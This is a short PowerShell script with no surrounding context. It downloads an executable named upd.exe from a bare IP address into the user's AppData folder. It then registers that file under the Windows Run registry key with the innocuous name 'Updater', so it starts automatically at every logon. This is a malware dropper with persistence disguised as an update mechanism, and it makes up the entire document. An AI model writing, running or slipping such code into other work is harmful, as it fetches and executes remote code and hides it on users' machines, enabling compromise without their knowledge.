$p = "$env:APPDATA\upd.exe"
Invoke-WebRequest -Uri http://203.0.113.5/upd.exe -OutFile $p
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value $p -PropertyType String -Force
